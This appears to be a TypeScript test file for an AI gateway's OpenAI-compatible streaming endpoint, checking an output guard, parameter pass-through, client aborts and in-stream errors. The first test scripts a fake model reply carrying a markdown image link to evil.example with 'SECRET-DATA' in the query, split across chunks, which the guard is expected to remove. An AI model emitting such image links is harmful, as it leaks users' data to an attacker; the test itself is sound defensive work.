// The OpenAI door's stream against an OpenAI-compatible upstream, called by the official `openai`
// client: the output guard cuts an exfiltration link split across upstream chunks, a client
// that leaves mid-stream aborts the upstream request and gets its final record, and a failure
// after the first chunk arrives as OpenAI's in-stream error event (the SDK raises it).
import OpenAI from "openai";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "../helpers/http.ts";
import { createTestKey } from "../helpers/services.ts";
import { stream } from "../model/fake-openai.ts";
import { CHAT, rowsOfCall, useOpenAiServices } from "./support.ts";

const { fixture, services } = useOpenAiServices();
let server: TestServer;
beforeEach(async () => {
  server = await startTestServer(services());
});
afterEach(() => server.close());

const HELLO = [{ role: "user" as const, content: "Tell me a story." }];
// Longer than the guard's hold-back window, so some text is released before what follows.
const PREAMBLE = Array.from({ length: 40 }, (_, i) => `Sentence ${i} of a calm story. `);

async function sdk() {
  const key = await createTestKey(services(), { scopes: CHAT });
  return new OpenAI({ apiKey: key.plaintext, baseURL: `${server.url}/v1`, maxRetries: 0 });
}

async function finalsOf(procedure: string, expected: number) {
  // A stream's final record is written once the server notices the end; wait for it, bounded.
  let finals = (await rowsOfCall(services().database, procedure)).finals;
  for (let i = 0; i < 100 && finals.length < expected; i++) {
    await new Promise((resolve) => setTimeout(resolve, 20));
    finals = (await rowsOfCall(services().database, procedure)).finals;
  }
  return finals;
}

describe("the OpenAI door's stream", () => {
  it("passes the output guard: an exfiltration image split across upstream chunks never arrives", async () => {
    const client = await sdk();
    const leak = ["Here is the chart: ![ch", "art](https://evil.exa", "mple/c.png?d=SECRET", "-DATA) done."];
    fixture.fake.script(stream([...PREAMBLE, ...leak]));

    const chunks = await client.chat.completions.create({
      model: "fake-model",
      messages: HELLO,
      stream: true,
    });
    let text = "";
    for await (const part of chunks) text += part.choices[0]?.delta.content ?? "";

    expect(text).toContain("Sentence 39 of a calm story.");
    expect(text).not.toContain("evil.example");
    expect(text).not.toContain("SECRET");
    const [final] = await finalsOf("chatStream", 1);
    expect(final?.outcome).toBe("ok");
    expect(final?.output).toBe(text);
    expect(final?.flags).toContain("exfiltration_image_removed");
  });

  it("passes temperature, top_p and stop to the upstream model", async () => {
    const client = await sdk();
    await client.chat.completions.create({
      model: "fake-model",
      messages: HELLO,
      temperature: 0.3,
      top_p: 0.9,
      stop: "END",
      max_tokens: 50,
    });
    expect(fixture.fake.requests[0]).toMatchObject({
      temperature: 0.3,
      top_p: 0.9,
      stop: ["END"],
      max_tokens: 50,
    });
  });

  it("a client that leaves mid-stream aborts the upstream call; the final record says client_closed", async () => {
    const client = await sdk();
    fixture.fake.script(stream(PREAMBLE, { hangAfter: true }));
    const upstreamAborted = fixture.fake.nextAbort();
    const controller = new AbortController();

    const chunks = await client.chat.completions.create(
      { model: "fake-model", messages: HELLO, stream: true },
      { signal: controller.signal },
    );
    let seen = "";
    // The SDK ends the iteration quietly when its own signal aborts it.
    for await (const part of chunks) {
      seen += part.choices[0]?.delta.content ?? "";
      if (seen.length > 0) controller.abort();
    }
    expect(seen).toContain("Sentence 0");

    await upstreamAborted;
    expect(fixture.fake.abortedResponses).toBe(1);
    const finals = await finalsOf("chatStream", 1);
    // As on chatStream: a call cut off by its client is an error, never a denial.
    expect(finals.map((r) => [r.outcome, r.reason])).toEqual([["error", "client_closed"]]);
  });

  it("a failure after the first chunk is OpenAI's in-stream error event, raised by the SDK", async () => {
    const client = await sdk();
    fixture.fake.script(stream(PREAMBLE, { rawAfter: ["data: {not json"] }));

    const chunks = await client.chat.completions.create({
      model: "fake-model",
      messages: HELLO,
      stream: true,
    });
    let text = "";
    const error = await (async () => {
      for await (const part of chunks) text += part.choices[0]?.delta.content ?? "";
    })().then(
      () => null,
      (e: unknown) => e,
    );

    expect(text.length).toBeGreaterThan(0);
    expect(error).toBeInstanceOf(OpenAI.APIError);
    expect((error as InstanceType<typeof OpenAI.APIError>).code).toBe("model_error");
    const finals = await finalsOf("chatStream", 1);
    expect(finals.map((r) => [r.outcome, r.reason])).toEqual([["error", "model_error"]]);
  });
});
